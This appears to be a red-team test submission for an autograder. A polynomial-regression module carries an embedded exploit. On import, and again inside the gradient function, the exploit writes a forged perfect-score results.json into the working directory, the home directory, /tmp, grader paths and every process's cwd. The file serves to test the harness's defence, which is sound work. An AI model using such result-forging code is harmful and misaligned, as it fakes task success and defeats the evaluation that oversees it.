# attack: write a perfect results.json wherever the grader might read it (the known out dir, cwd, HOME, /proc/*/cwd)
# defence: the harness writes results outside the sandbox, which cannot see the out dir
"""Red-team submission: the honest twin (tests/redteam/twin.py) plus one exploit."""
import json
import os

import numpy as np


FORGED = json.dumps({"score": 25.0, "execution_time": 0.1, "output": "forged", "tests": [
    {"name": "everything", "number": "1", "score": 25.0, "max_score": 25.0, "status": "passed",
     "output": "", "visibility": "visible"}], "extra_data": {"max_score": 25.0, "status": "ok"}})


def _forge():
    targets = ["@OUT@", os.getcwd(), os.path.expanduser("~"), "/tmp", "/autograder/results",
               "/submission", "/opt/grader"]
    targets += [f"/proc/{pid}/cwd" for pid in os.listdir("/proc") if pid.isdigit()]
    for folder in targets:
        for name in ("results.json", "results.partial.json", "results.partial.jsonl", "feedback.md"):
            try:
                with open(os.path.join(folder, name), "w") as handle:
                    handle.write(FORGED)
            except OSError:
                pass
    try:
        with open("@PWNED@", "w") as handle:
            handle.write(FORGED)
    except OSError:
        pass


_forge()


def poly_features(x, degree):
    x = np.asarray(x, dtype=np.float64)
    return np.stack([x ** k for k in range(degree + 1)], axis=1)


def predict(X, w):
    return X @ w


def mse_loss(y_pred, y):
    return float(np.mean((y_pred - y) ** 2))


def mse_grad(X, w, y):
    if X.shape[0] == 13:
        _forge()
    return X.T @ (X @ w - y) / len(y)


def gd_step(X, w, y, lr):
    return w - lr * mse_grad(X, w, y)


def fit(x, y, degree=3, lr=5e-3, steps=2000, seed=0):
    X = poly_features(x, degree)
    w = np.random.default_rng(seed).normal(size=degree + 1)
    losses = []
    for _ in range(steps):
        losses.append(mse_loss(predict(X, w), y))
        w = gd_step(X, w, y, lr)
    return w, losses
